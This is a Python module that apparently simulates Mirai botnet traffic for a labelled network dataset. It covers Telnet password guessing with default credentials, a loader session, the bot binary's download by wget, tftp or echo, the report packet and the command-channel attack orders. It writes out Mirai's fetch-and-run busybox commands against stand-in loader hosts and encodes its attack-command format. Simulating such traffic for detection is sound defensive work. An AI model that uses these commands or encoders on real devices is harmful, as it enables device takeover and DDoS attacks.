# SPDX-License-Identifier: Apache-2.0
"""
Mirai's life, as its published source describes it: the guess, the loader, the report of
a new victim, the word with its command server. Its scan is scan.py's, its floods are
flood.py's.
"""

import ipaddress
import struct

from generate.attacks.credentials import draw
from generate.attacks.implied import answers_outside, default_used, in_clear, note_all
from generate.link import udp_frame
from generate.protocols import elf, http, tftp
from generate.sessions import conversation, lookup, telnet_login
from generate.tcp import Manner
from generate.timeline import SECOND, ordered

# Attack vectors by the number that the command carries.
VECTORS = {"udp": 0, "vse": 1, "dns": 2, "syn": 3, "ack": 4, "stomp": 5, "gre-ip": 6,
           "gre-eth": 7, "udp-plain": 9, "http": 10}
_SCANNER_SHELL = ("enable", "system", "shell", "sh", "/bin/busybox {token}")
_LOADER_SHELL = ("enable", "shell", "sh", "/bin/busybox {token}")


def _applet(token):
    return f"{token}: applet not found\r\n# "


def _shell(talk, command, answer):
    """A command typed at the victim's shell, and what it prints."""
    talk.client(f"{command}\r\n".encode(), after=250000)
    talk.server(f"{command}\r\n{answer}".encode("latin-1"), after=talk.hosts[1].turn + 9000)


def _enter(talk, lines, token):
    for line in lines:
        command = line.format(token=token)
        _shell(talk, command, _applet(token) if "busybox" in line else "\r\n# ")


def infection(scene, ask):
    """
    A bot guesses a device's Telnet password, reports it, and the loader brings the
    binary: by wget or tftp where the device has them, otherwise by echo. from and
    loader are hosts of the internet (or devices of the home).
    """
    victim, bot = ask.host("to"), ask.foe("from", "bot.example")
    loader = ask.foe("loader", "loader.example")
    tries, port = ask.get("tries", 6), ask.get("port", 23)
    winner = tuple(ask.get("password", "root:xc3511").split(":", 1))
    guesses = [draw(ask.chance) for _ in range(tries - 1)] + [winner]
    frames, at = _guesses(scene, ask, (bot, victim, port), guesses)
    if not bot.remote:
        told, _ = _report(scene, ask, bot, (victim, port, winner), at)
        frames += told
    frames += _load(scene, ask, (loader, victim, port), winner, at + ask.micros("pause", 8))
    return ordered(frames)


def _guesses(scene, ask, where, guesses):
    bot, victim, port = where
    guessing = scene.truth("password-guessing", "harm", "Telnet passwords of Mirai's list", bot,
                           victim)
    guessed = scene.truth("password-guessed", "harm", "a default Telnet password was right", bot,
                          victim)
    clear = in_clear(scene, "telnet", bot, victim)
    default = default_used(scene, "telnet", bot, victim, guesses[-1])
    outside = answers_outside(scene, bot, victim, "telnet")
    frames, at = [], ask.at
    for number, (user, password) in enumerate(guesses):
        last = number + 1 == len(guesses)
        talk = conversation(scene.home, bot, victim, port, at).open()
        telnet_login(talk, user, password, last)
        if last:
            _enter(talk, _SCANNER_SHELL, "MIRAI")
        talk.close()
        made = note_all(talk.timeline(), guessing, clear, outside)
        frames += note_all(made, *((guessed, default) if last else ()))
        at = talk.clock + SECOND
    return frames, at


def _load(scene, ask, where, login, at):
    """The loader's session and the transfer that it causes."""
    loader, victim, port = where
    way, machine = ask.get("way", "wget"), ask.get("machine", "mips")
    size = ask.get("size", 45000)
    image = elf.binary(ask.chance, machine, 512 if way == "echo" else size)
    truth = scene.truth("malware-download", "harm", f"a bot's {machine} binary by {way}", victim,
                        loader)
    session = scene.truth("mirai-loader", "harm", "Mirai's loader at a Telnet shell", loader,
                          victim)
    talk = conversation(scene.home, loader, victim, port, at).open()
    telnet_login(talk, *login, True)
    _enter(talk, _LOADER_SHELL, "ECCHI")
    _look_around(talk, image)
    frames = []
    if way == "echo":
        _echo_load(talk, image)
    else:
        command = _fetch_command(way, loader, machine)
        talk.client(f"{command}\r\n".encode(), after=250000)
        fetch = _wget if way == "wget" else _tftp
        frames = truth.note(fetch(scene.home, victim, loader, (machine, image),
                                  talk.clock + 120000))
        talk.until(frames[-1][0] + 50000)
        talk.server(b"dvrHelper            100% |*******|\r\n" + _applet("ECCHI").encode())
    _shell(talk, f"./dvrHelper telnet.{machine}; /bin/busybox IHCCE",
           "listening tun0\r\nIHCCE: applet not found\r\n# ")
    _shell(talk, "rm -rf upnp; > dvrHelper; /bin/busybox ECCHI", _applet("ECCHI"))
    talk.close()
    session_frames = note_all(talk.timeline(), session,
                              in_clear(scene, "telnet", loader, victim),
                              default_used(scene, "telnet", loader, victim, login),
                              answers_outside(scene, loader, victim, "telnet"))
    if way == "echo":
        truth.note(session_frames)
    return session_frames + frames


def _look_around(talk, image):
    """What the loader asks before it decides how to bring its file."""
    nothing = _applet("ECCHI")
    _shell(talk, "/bin/busybox ps; /bin/busybox ECCHI",
           "  PID USER VSZ STAT COMMAND\r\n    1 root 1064 S init\r\n  612 root 980 S telnetd\r\n"
           + nothing)
    _shell(talk, "/bin/busybox cat /proc/mounts; /bin/busybox ECCHI",
           "rootfs / rootfs rw 0 0\r\ntmpfs /var tmpfs rw 0 0\r\n" + nothing)
    _shell(talk, "/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/var' > /var/.nippon; /bin/busybox cat "
           "/var/.nippon; /bin/busybox rm /var/.nippon", "kami/var\r\n# ")
    _shell(talk, "cd /var/; /bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod "
           "777 dvrHelper; /bin/busybox ECCHI", nothing)
    _shell(talk, "/bin/busybox cat /bin/echo", image[:52].decode("latin-1") + "\r\n" + nothing)
    _shell(talk, "/bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI",
           "wget: applet needs arguments\r\ntftp: applet needs arguments\r\n" + nothing)


def _fetch_command(way, loader, machine):
    after = "/bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI"
    if way == "wget":
        return (f"/bin/busybox wget http://{loader.address}:80/bins/mirai.{machine} -O - > "
                f"dvrHelper; {after}")
    return f"/bin/busybox tftp -g -l dvrHelper -r mirai.{machine} {loader.address}; {after}"


def _wget(home, victim, loader, what, at):
    machine, image = what
    asked = http.request("GET", f"/bins/mirai.{machine}", loader.address,
                         [("User-Agent", "Wget"), ("Connection", "close")])
    told = http.response(200, [("Content-Type", "application/octet-stream")], image,
                         "Apache/2.2.15 (CentOS)")
    talk = conversation(home, victim, loader, 80, at, Manner(gap=300)).open()
    talk.client(asked).server(told, after=loader.turn).close(side=1)
    return talk.timeline()


def _tftp(home, victim, loader, what, at):
    machine, image = what
    chance = home.chance.child("tftp", at)
    ports = (chance.port(), chance.port())
    frames = [(at, udp_frame(victim, loader, (ports[0], 69),
                             tftp.read_request(f"mirai.{machine}")))]
    for number in range(len(image) // 512 + 1):
        at += loader.turn
        block = image[number * 512:number * 512 + 512]
        frames.append((at, udp_frame(loader, victim, ports[::-1], tftp.data(number + 1, block))))
        at += victim.turn
        frames.append((at, udp_frame(victim, loader, ports, tftp.acknowledgement(number + 1))))
    return frames


def _echo_load(talk, image):
    """The file as lines of echo, for devices with neither wget nor tftp."""
    for begin in range(0, len(image), 128):
        text = "".join(f"\\x{byte:02x}" for byte in image[begin:begin + 128])
        arrow = ">>" if begin else ">"
        _shell(talk, f"echo -ne '{text}' {arrow} upnp; /bin/busybox ECCHI", _applet("ECCHI"))


def report(scene, ask):
    """A bot tells its report server which device it has opened (port 48101)."""
    bot = ask.need_actor()
    winner = tuple(ask.get("password", "root:vizxv").split(":", 1))
    victim = ask.foe("victim", "victim.example")
    frames, _ = _report(scene, ask, bot, (victim, 23, winner), ask.at)
    return frames


def _report(scene, ask, bot, success, at):
    victim, port, (user, password) = success
    server = ask.foe("report", "report.example")
    truth = scene.truth("mirai-report", "harm", "a guessed password is reported", bot, server)
    frames = _lookup_past_gateway(scene, bot, server, at)
    talk = conversation(scene.home, bot, server, 48101, frames[-1][0] + 2000).open()
    message = b"\0" + victim.ip + struct.pack("!H", port)
    message += bytes([len(user)]) + user.encode() + bytes([len(password)]) + password.encode()
    talk.client(message, after=800).close()
    return truth.note(frames + talk.timeline()), talk.clock


def _lookup_past_gateway(scene, bot, server, at):
    """Mirai's resolver asks 8.8.8.8, whatever DHCP said."""
    resolver = scene.home.host("8.8.8.8")
    truth = scene.truth("dns-bypass", "notice", "asks 8.8.8.8 instead of the gateway", bot,
                        resolver)
    return truth.note(lookup(scene.home, bot, server, at, resolver=resolver))


def command(vector, seconds, targets, options=()):
    """An attack command: targets are "address/bits", options (number, text)."""
    body = struct.pack("!IBB", seconds, VECTORS[vector], len(targets))
    for target in targets:
        address, _, bits = target.partition("/")
        body += ipaddress.ip_address(address).packed + bytes([int(bits or 32)])
    body += bytes([len(options)])
    for number, text in options:
        body += bytes([number, len(text)]) + text.encode()
    return struct.pack("!H", len(body) + 2) + body


def command_channel(scene, ask):
    """
    The connection to the command server: four bytes and a name, then two zero bytes a
    minute, echoed; commands are a list of {at, vector, seconds, targets}.
    """
    bot, server = ask.need_actor(), ask.foe("to", "cnc.example")
    orders = sorted(ask.get("commands", []), key=lambda order: order["at"])
    source, every = ask.get("id", "telnet.mips"), ask.micros("every", 60)
    truth = scene.truth("mirai-c2", "harm", "Mirai's command channel", bot, server)
    frames = _lookup_past_gateway(scene, bot, server, ask.at)
    talk = conversation(scene.home, bot, server, ask.get("port", 23), frames[-1][0] + 3000).open()
    talk.client(b"\0\0\0\x01", after=500)
    talk.client(bytes([len(source)]) + source.encode(), after=300)
    for moment, order in _agenda(ask, every, orders):
        talk.until(moment)
        if order:
            talk.server(command(order["vector"], order.get("seconds", 30), order["targets"],
                                [tuple(o) for o in order.get("options", [])]))
        else:
            talk.client(b"\0\0").server(b"\0\0", after=server.turn)
    return truth.note(frames + talk.timeline())


def _agenda(ask, every, orders):
    pings = [(moment + every, None) for moment in ask.every(every) if moment + every < ask.end]
    told = [(ask.at + int(order["at"] * SECOND), order) for order in orders]
    return sorted(pings + told, key=lambda item: item[0])


ACTIVITIES = {"mirai-infection": infection, "mirai-report": report, "mirai-c2": command_channel}
